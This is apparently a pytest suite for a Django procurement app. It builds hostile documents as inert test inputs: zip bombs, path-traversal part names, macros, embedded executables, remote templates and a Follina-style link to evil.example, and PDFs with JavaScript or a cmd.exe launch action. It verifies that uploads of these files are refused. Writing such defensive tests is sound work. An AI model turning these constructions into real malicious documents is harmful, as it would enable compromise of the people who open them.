"""Uploaded documents are read whole before anything is stored: zip bombs, macros, embedded programs and
active PDFs are refused with the reason on the page, on a case and in a buyer group alike, and a refused
upload leaves no row and no file. Every hostile file is built here, from the formats' own pieces."""

import contextlib
import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.defaultfilters import filesizeformat
from django.utils import translation
from django.utils.html import escape
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from delbar.cases import documents
from delbar.cases.models import CaseDocument
from delbar.groups.actions import form_group
from delbar.groups.models import GroupDocument
from delbar.needs import actions as need_actions
from tests.conftest import FIXTURES, REPO, client_for

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT_TYPE = "application/vnd.oasis.opendocument.text"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- The formats' own pieces -------------------------------------------------------------------------------

def zipped(parts: dict, *, stored=("mimetype",)) -> bytes:
    """A zip of `parts` in order; zipfile writes any name it is given, which is what an attacker does too."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return buffer.getvalue()


def marked_encrypted(package: bytes) -> bytes:
    """`package` with every part flagged as encrypted, in the local headers and the central directory."""
    data = bytearray(package)
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start != -1:
            data[start + flag_offset] |= 0x1
            start = data.find(signature, start + 4)
    return bytes(data)


def content_types(*overrides: tuple[str, str], defaults=()) -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="png" ContentType="image/png"/>'
            + "".join(f'<Default Extension="{ext}" ContentType="{kind}"/>' for ext, kind in defaults)
            + "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides)
            + "</Types>")


def relationships(*relations: tuple) -> str:
    """Relationships as (type, target) or (type, target, "External")."""
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f'<Relationship Id="rId{number}" Type="{RELS}/{relation[0]}" Target="{escape(relation[1])}"'
                      + (' TargetMode="External"' if len(relation) > 2 else "") + "/>"
                      for number, relation in enumerate(relations, 1))
            + "</Relationships>")


PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d4944415478da63f8cfc0f01f0005000201a1f4d3a80000000049454e44ae426082")
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORKSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


def xlsx_parts(main_type=SHEET_MAIN, **extra) -> dict:
    return {
        "[Content_Types].xml": content_types(("/xl/workbook.xml", main_type),
                                             ("/xl/worksheets/sheet1.xml", WORKSHEET)),
        "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                           f'xmlns:r="{RELS}"><sheets><sheet name="Kostnader" sheetId="1" r:id="rId1"/>'
                           "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": relationships(("worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                                    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Pris</t></is></c>'
                                    '<c r="B1"><v>1200000</v></c></row></sheetData></worksheet>',
        **extra,
    }


def docx_parts(main_type=WORD_MAIN, *, overrides=(), document_rels=(), settings_rels=(), **extra) -> dict:
    """A Word document with what real ones carry: a hyperlink, a picture, a chart's workbook, and the local
    template it was made from."""
    return {
        "[Content_Types].xml": content_types(("/word/document.xml", main_type), *overrides,
                                             defaults=[("xlsx", XLSX_TYPE)]),
        "_rels/.rels": relationships(("officeDocument", "word/document.xml")),
        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                             "<w:body><w:p><w:r><w:t>Kravspesifikasjon</w:t></w:r></w:p></w:body></w:document>",
        "word/_rels/document.xml.rels": relationships(
            ("hyperlink", "https://www.doffin.no/notices/2024-100", "External"), ("image", "media/image1.png"),
            ("settings", "settings.xml"), *document_rels),
        "word/settings.xml": '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
        "word/_rels/settings.xml.rels": relationships(
            ("attachedTemplate", "file:///C:\\Users\\per\\Maler\\Bergen kommune.dotx", "External"), *settings_rels),
        "word/media/image1.png": PNG,
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": zipped(xlsx_parts()),
        **extra,
    }


def odt_parts(content_body="<text:p>Rapport</text:p>", **extra) -> dict:
    return {
        "mimetype": ODT_TYPE,  # first and stored, as the ODF standard asks
        "META-INF/manifest.xml": '<manifest:manifest '
                                 'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
                                 'manifest:version="1.3"><manifest:file-entry manifest:full-path="/" '
                                 f'manifest:media-type="{ODT_TYPE}"/><manifest:file-entry '
                                 'manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                                 "</manifest:manifest>",
        "content.xml": '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                       'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
                       'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
                       'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">'
                       f"<office:body><office:text>{content_body}</office:text></office:body>"
                       "</office:document-content>",
        **extra,
    }


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 502
DOCX = zipped(docx_parts())
XLSX = zipped(xlsx_parts())
ODT = zipped(odt_parts())


def pdf(build=None, *, encrypt: str | None = None) -> bytes:
    """A one-page PDF made by pypdf; `build(writer)` adds what the test is about."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if build is not None:
        build(writer)
    if encrypt:
        writer.encrypt("hemmelig", algorithm=encrypt)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _javascript_names_tree(writer):
    writer.add_open_action(JavaScript("app.launchURL('https://example.com/');"))


def _open_action_javascript(writer):
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})


def _page_launch_action(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
        NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})})


def _attachment(writer):
    writer.add_attachment("faktura.exe", b"MZ not really")


def _xfa_form(writer):
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp:xdp/>")})


def _harmless_actions(writer):
    """What ordinary PDFs have: open at page one, and a link to a web page."""
    writer.root_object[NameObject("/OpenAction")] = ArrayObject([
        writer.pages[0].indirect_reference, NameObject("/Fit")])
    writer.pages[0][NameObject("/Annots")] = ArrayObject([DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(20)]),
        NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/URI"),
                                            NameObject("/URI"): TextStringObject("https://www.doffin.no/")})})])


# --- Uploading through the real pages ----------------------------------------------------------------------

@pytest.fixture
def attach_to_case(cast, make_case):
    """attach_to_case(name, content) -> the page Alice sees after uploading to a Bergen draft."""
    alice, case = client_for(cast["alice"]), make_case()

    def upload(name, content):
        response = alice.post(f"/cases/{case.pk}/documents/new/", {
            "kind": "report", "title": "", "file": SimpleUploadedFile(name, content)})
        assert response.status_code == 400
        return response.content.decode()

    return upload


@pytest.fixture
def attach_to_group(cast, bergen, lyngdal):
    """attach_to_group(name, content) -> the group page Alice, a member for Bergen, sees after uploading."""
    need = need_actions.create_need(actor=cast["bob"], organization=lyngdal, fields={
        "title": "Utslippsfri ferje", "description": "Ferja vår går på diesel."})
    group = form_group(need=need, actor=cast["bob"], name="Ferjegruppa", members=[bergen])
    alice = client_for(cast["alice"])

    def upload(name, content):
        response = alice.post(f"/groups/{group.pk}/documents/", {
            "title": "", "file": SimpleUploadedFile(name, content)}, follow=True)
        assert response.status_code == 200
        return response.content.decode()

    return upload


def shown(message, **values) -> str:
    """The reason as the page shows it: in Norwegian, escaped."""
    with translation.override("nb"):
        return escape(str(message % values if values else message))


def stored_files(tmp_path) -> list:
    return [path for path in (tmp_path / "media").rglob("*") if path.is_file()]


def assert_refused(attach, tmp_path, name, content, reason):
    page = attach(name, content)
    assert reason in page
    assert not CaseDocument.objects.exists() and not GroupDocument.objects.exists()
    assert stored_files(tmp_path) == []


def refused(name, content, reason, *, id):
    return pytest.param(name, content, reason, id=id)


# --- What is accepted ---------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "content", "stored_type"), [
    pytest.param("krav.docx", DOCX, DOCX_TYPE, id="docx"),
    pytest.param("kostnader.xlsx", XLSX, XLSX_TYPE, id="xlsx"),
    pytest.param("rapport.odt", ODT, ODT_TYPE, id="odt"),
    pytest.param("rapport.pdf", (FIXTURES / "sample.pdf").read_bytes(), "application/pdf", id="pdf-fixture"),
    pytest.param("krav.pdf", (REPO / "delbar" / "demo" / "kravspesifikasjon-eksempel.pdf").read_bytes(),
                 "application/pdf", id="pdf-demo"),
    pytest.param("lenker.pdf", pdf(_harmless_actions), "application/pdf", id="pdf-links"),
])
def test_real_documents_are_accepted_and_stored_whole(cast, make_case, name, content, stored_type):
    case = make_case()
    alice = client_for(cast["alice"])
    response = alice.post(f"/cases/{case.pk}/documents/new/", {
        "kind": "report", "title": "", "file": SimpleUploadedFile(name, content)})
    assert response.status_code == 302
    document = case.documents.get()
    assert document.content_type == stored_type
    download = alice.get(f"/cases/{case.pk}/documents/{document.pk}/")
    assert b"".join(download.streaming_content) == content  # read whole, then stored from the start


def test_a_large_upload_kept_on_disk_is_read_whole_and_stored_whole(cast, make_case, settings, tmp_path):
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0  # every upload goes to a temporary file
    case = make_case()
    alice = client_for(cast["alice"])
    response = alice.post(f"/cases/{case.pk}/documents/new/", {"kind": "report", "title": "", "file": (
        SimpleUploadedFile("krav.docx", zipped(docx_parts(**{"word/embeddings/oleObject1.bin": OLE}))))})
    assert response.status_code == 400 and shown(documents.EMBEDDED) in response.content.decode()
    assert not CaseDocument.objects.exists() and stored_files(tmp_path) == []
    response = alice.post(f"/cases/{case.pk}/documents/new/", {
        "kind": "report", "title": "", "file": SimpleUploadedFile("krav.docx", DOCX)})
    assert response.status_code == 302
    document = case.documents.get()
    assert b"".join(alice.get(f"/cases/{case.pk}/documents/{document.pk}/").streaming_content) == DOCX


# --- Zip packages -------------------------------------------------------------------------------------------

PACKAGE_REFUSALS = [
    refused("krav.docx", zipped(docx_parts(**{"word/media/image2.png": bytes(50 * 1024 * 1024)})),
            shown(documents.ZIP_BOMB, ratio=documents.BOMB_RATIO), id="zip-bomb"),  # 50 MB of zeros in 50 KB
    refused("krav.docx", zipped(docx_parts(**{f"word/media/part{n}.png": PNG for n in range(20_000)})),
            shown(documents.TOO_MANY_PARTS, count=20_000 + len(docx_parts()), limit=documents.MAX_PARTS),
            id="20000-parts"),
    refused("krav.docx", zipped(docx_parts(**{"../../../etc/cron.d/delbar": "x"})), shown(documents.UNSAFE_NAMES),
            id="dot-dot"),
    refused("krav.docx", zipped(docx_parts(**{"/etc/passwd": "x"})), shown(documents.UNSAFE_NAMES), id="absolute"),
    refused("krav.docx", zipped(docx_parts(**{"C:/Windows/evil.xml": "x"})), shown(documents.UNSAFE_NAMES),
            id="drive"),
    refused("krav.docx", marked_encrypted(DOCX), shown(documents.ENCRYPTED), id="encrypted"),
    refused("krav.docx", DOCX[: len(DOCX) // 2], shown(documents.DAMAGED), id="truncated"),
    # one byte changed after packing: the part no longer matches its checksum
    refused("krav.docx", zipped(docx_parts(), stored=("word/document.xml",)).replace(
        b"Kravspesifikasjon", b"Kravspesifikasjo\x00"), shown(documents.DAMAGED), id="bad-crc"),
    refused("krav.docx", zipped(docx_parts("application/vnd.openxmlformats-officedocument.presentationml."
                                           "presentation.main+xml")), shown(documents.NOT_A_DOCUMENT),
            id="presentation-named-docx"),
    refused("rapport.odt", zipped(odt_parts(mimetype="application/vnd.oasis.opendocument.spreadsheet")),
            shown(documents.NOT_A_DOCUMENT), id="spreadsheet-named-odt"),
]


@pytest.mark.parametrize(("name", "content", "reason"), PACKAGE_REFUSALS)
def test_zip_bombs_and_broken_packages_are_refused(attach_to_case, tmp_path, name, content, reason):
    assert_refused(attach_to_case, tmp_path, name, content, reason)


def test_a_package_unpacking_past_ten_times_the_upload_limit_is_refused(attach_to_case, tmp_path, settings):
    settings.DOCUMENT_MAX_BYTES = 100_000  # so 1 MB unpacked is too much
    text = "<w:p>Leverandøren skal dokumentere kravet.</w:p>".encode() * 40_000  # 2 MB, too small to be a bomb
    with translation.override("nb"):
        limit = filesizeformat(documents.UNPACKED_PER_UPLOADED_BYTE * settings.DOCUMENT_MAX_BYTES)
    assert_refused(attach_to_case, tmp_path, "krav.docx", zipped(docx_parts(**{"word/footnotes.xml": text})),
                   shown(documents.TOO_LARGE_UNPACKED, limit=limit))


MACROS = shown(documents.MACROS)
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
MACRO_REFUSALS = [
    refused("krav.docx", zipped(docx_parts(**{"word/vbaProject.bin": OLE})), MACROS, id="vbaproject"),
    refused("krav.docx", zipped(docx_parts("application/vnd.ms-word.document.macroEnabled.main+xml")), MACROS,
            id="docm-type"),
    refused("krav.docx", zipped(docx_parts(overrides=[("/word/macros.bin", "application/vnd.ms-office.vbaProject")])),
            MACROS, id="vba-type"),
    refused("kostnader.xlsx", zipped(xlsx_parts(XLSM_MAIN)), MACROS, id="xlsm-type"),
    refused("kostnader.xlsx", zipped(xlsx_parts(**{"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"})), MACROS,
            id="excel4-macro-sheet"),
    refused("krav.docx", zipped(docx_parts(**{"word/embeddings/Microsoft_Excel_Worksheet.xlsx": zipped(
        xlsx_parts(XLSM_MAIN))})), MACROS, id="chart-workbook-with-macros"),
    refused("rapport.odt", zipped(odt_parts(**{"Basic/Standard/Module1.xml": "<script:module/>"})), MACROS,
            id="odt-basic"),
    refused("rapport.odt", zipped(odt_parts(**{"Scripts/python/run.py": "import os"})), MACROS, id="odt-scripts"),
    # a document event bound to a script, its URL hidden behind a character reference
    refused("rapport.odt", zipped(odt_parts(
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script&#58;LibreLogo|LibreLogo.py$run?location=share"/>')), MACROS,
            id="odt-event"),
    refused("rapport.odt", zipped(odt_parts(
        '<text:a xlink:href="vnd.sun.star.script&#58;Standard.Module1.Main?language=Basic&amp;location=document">'
        "Klikk</text:a>")), MACROS, id="odt-link"),
]


@pytest.mark.parametrize(("name", "content", "reason"), MACRO_REFUSALS)
def test_macros_are_refused(attach_to_case, tmp_path, name, content, reason):
    assert_refused(attach_to_case, tmp_path, name, content, reason)


EMBEDDED = shown(documents.EMBEDDED)
EMBEDDED_REFUSALS = [refused("krav.docx", zipped(docx_parts(**{part: content})), EMBEDDED, id=label)
                     for part, content, label in [
    ("word/media/image2.png", EXE, "program-as-picture"),
    ("word/embeddings/oleObject1.bin", OLE, "ole-object-by-name"),
    ("word/media/image2.emf", OLE, "ole-object-by-bytes"),
    ("word/embeddings/setup.exe", b"not even a program", "exe-by-name"),
    ("word/embeddings/run.vbs", b'CreateObject("WScript.Shell")', "vbs-by-name"),
    ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", zipped(xlsx_parts(**{"xl/media/image1.png": EXE})),
     "program-in-chart-workbook"),
    ("word/embeddings/archive.docx", zipped({"notes.txt": "hei"}), "zip-that-is-no-document"),
]] + [refused("rapport.odt", zipped(odt_parts(**{"Object 1": OLE})), EMBEDDED, id="odt-ole-object")]


@pytest.mark.parametrize(("name", "content", "reason"), EMBEDDED_REFUSALS)
def test_embedded_programs_and_objects_are_refused(attach_to_case, tmp_path, name, content, reason):
    assert_refused(attach_to_case, tmp_path, name, content, reason)


REMOTE = shown(documents.REMOTE)
REMOTE_REFUSALS = [
    refused("krav.docx", zipped(docx_parts(settings_rels=[
        ("attachedTemplate", "https://evil.example/normal.dotm", "External")])), REMOTE, id="template-over-http"),
    refused("krav.docx", zipped(docx_parts(settings_rels=[
        ("attachedTemplate", "\\\\files.evil.example\\share\\normal.dotm", "External")])), REMOTE,
            id="template-on-a-share"),
    refused("krav.docx", zipped(docx_parts(document_rels=[
        ("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html", "External")])), REMOTE,
            id="follina"),
]


@pytest.mark.parametrize(("name", "content", "reason"), REMOTE_REFUSALS)
def test_templates_and_objects_fetched_on_opening_are_refused(attach_to_case, tmp_path, name, content, reason):
    assert_refused(attach_to_case, tmp_path, name, content, reason)


# --- PDF ----------------------------------------------------------------------------------------------------

PDF_REFUSALS = [refused("rapport.pdf", content, shown(reason), id=label) for content, reason, label in [
    (pdf(_javascript_names_tree), documents.PDF_JAVASCRIPT, "javascript-names-tree"),
    (pdf(_open_action_javascript), documents.PDF_JAVASCRIPT, "javascript-open-action"),
    (pdf(_page_launch_action), documents.PDF_LAUNCH, "launch-on-page-open"),
    (pdf(_attachment), documents.PDF_ATTACHMENTS, "attached-file"),
    (pdf(_xfa_form), documents.PDF_XFA, "xfa"),
    (pdf(encrypt="RC4-128"), documents.ENCRYPTED, "rc4"),
    (pdf(encrypt="AES-256"), documents.ENCRYPTED, "aes-256"),
    (pdf()[:-200], documents.DAMAGED, "truncated"),
    (b"%PDF-1.7\n" + b"[" * 100_000, documents.DAMAGED, "nested-arrays"),
]]


@pytest.mark.parametrize(("name", "content", "reason"), PDF_REFUSALS)
def test_active_encrypted_or_damaged_pdfs_are_refused(attach_to_case, tmp_path, name, content, reason):
    assert_refused(attach_to_case, tmp_path, name, content, reason)


def pdf_with_object_stream(open_action: bytes) -> bytes:
    """A PDF 1.5 whose catalog and open action sit compressed in an object stream, as Word and Acrobat write
    them: a search of the file's bytes for /JavaScript finds nothing."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", open_action]
    offsets, body = [], b""
    for item in objects:
        offsets.append(len(body))
        body += item + b"\n"
    header = b"1 %d 4 %d " % tuple(offsets)
    packed = zlib.compress(header + body)
    out = b"%PDF-1.5\n"
    positions = {}
    for number, item in [(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
                         (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"),
                         (5, b"<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
                          % (len(header), len(packed)) + packed + b"\nendstream")]:
        positions[number] = len(out)
        out += b"%d 0 obj\n" % number + item + b"\nendobj\n"
    positions[6] = len(out)
    rows = [(0, 0, 65535), (2, 5, 0), (1, positions[2], 0), (1, positions[3], 0), (2, 5, 1), (1, positions[5], 0),
            (1, positions[6], 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
            b"stream\n" % len(table) + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % positions[6])
    return out


@pytest.mark.parametrize(("open_action", "reason"), [
    (b"<< /S /JavaScript /JS (app.alert(1)) >>", shown(documents.PDF_JAVASCRIPT)),
    (b"<< /S /GoTo /D [3 0 R /Fit] >>", None),  # the same file without the script is a good PDF
], ids=['javascript', 'goto'])
def test_javascript_kept_in_a_compressed_object_stream_is_found(cast, make_case, open_action, reason):
    content = pdf_with_object_stream(open_action)
    assert b"JavaScript" not in content
    case = make_case()
    response = client_for(cast["alice"]).post(f"/cases/{case.pk}/documents/new/", {
        "kind": "report", "title": "", "file": SimpleUploadedFile("rapport.pdf", content)})
    if reason:
        assert response.status_code == 400 and reason in response.content.decode()
        assert not CaseDocument.objects.exists()
    else:
        assert response.status_code == 302 and case.documents.get().content_type == "application/pdf"


@pytest.mark.parametrize(("bound", "value"), [("PDF_MAX_OBJECTS", 5), ("PDF_MAX_SECONDS", -1)])
def test_a_pdf_past_the_bounds_of_the_walk_is_refused_not_waited_for(attach_to_case, tmp_path, monkeypatch, bound,
                                                                      value):
    monkeypatch.setattr(documents, bound, value)
    assert_refused(attach_to_case, tmp_path, "rapport.pdf", pdf(_harmless_actions), shown(documents.TOO_COMPLEX))


# --- The buyer group's upload shares the check ---------------------------------------------------------------

def test_the_buyer_group_upload_refuses_every_one_of_them(attach_to_group, tmp_path):
    for case in [*PACKAGE_REFUSALS, *MACRO_REFUSALS, *EMBEDDED_REFUSALS, *REMOTE_REFUSALS, *PDF_REFUSALS]:
        name, content, reason = case.values
        assert reason in attach_to_group(name, content), case.id
    assert not GroupDocument.objects.exists() and stored_files(tmp_path) == []
    attach_to_group("krav.docx", DOCX)
    assert GroupDocument.objects.get().content_type == DOCX_TYPE


# --- Never a 500 --------------------------------------------------------------------------------------------

@hypothesis_settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(source=st.sampled_from([DOCX, XLSX, ODT, pdf(_harmless_actions)]), data=st.data())
def test_any_damage_to_a_document_gives_a_reason_not_an_error(source, data):
    position = data.draw(st.integers(0, len(source) - 1))
    damage = data.draw(st.binary(min_size=0, max_size=16))
    cut = data.draw(st.booleans())
    damaged = source[:position] + damage + (b"" if cut else source[position + len(damage):])
    upload = SimpleUploadedFile("document", damaged)
    with contextlib.suppress(ValidationError):
        assert documents.inspect_upload(upload) in documents.EXTENSIONS
    assert upload.tell() == 0
